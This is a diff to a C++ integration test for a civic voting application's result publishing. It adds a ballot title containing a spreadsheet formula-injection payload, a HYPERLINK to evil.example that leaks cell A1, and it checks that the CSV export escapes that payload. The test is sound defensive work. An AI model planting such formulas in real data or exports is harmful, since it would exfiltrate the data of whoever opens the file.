@@ -60,7 +60,10 @@ Resident resident(const std::string& who) {
 
 TEST_CASE("a closed campaign is tallied, signed, published and verifiable by anyone",
           "[integration][results]") {
-    TestCampaign c(voting(), sealed({{"a", 6000}, {"b", 5000}, {"c", 3000}}));
+    auto launch = sealed({{"a", 6000}, {"b", 5000}, {"c", 3000}});
+    // A title a spreadsheet would run as a formula (issue 14, item 9).
+    launch.ballot[1].title = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")";
+    TestCampaign c(voting(), launch);
     std::map<std::string, std::string> receipts;
     receipts["ana"] = c.vote(resident("ana"), {"a", "b"});
     receipts["bob"] = c.vote(resident("bob"), {"a"});
@@ -150,6 +153,9 @@ TEST_CASE("a closed campaign is tallied, signed, published and verifiable by any
                              "identifiant;titre;",
                              0) == 0);
         CHECK(csv.body.find("a;Initiative a;arrageois;cooperation;6000;3;oui;1;") !=
+              std::string::npos);
+        CHECK(csv.body.find(
+                  "\r\nb;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"clic\"\")\";") !=
               std::string::npos);
         CHECK(json::parse(http_request(port, "GET", "/api/v1/campaign").body)
                   .at("phase")
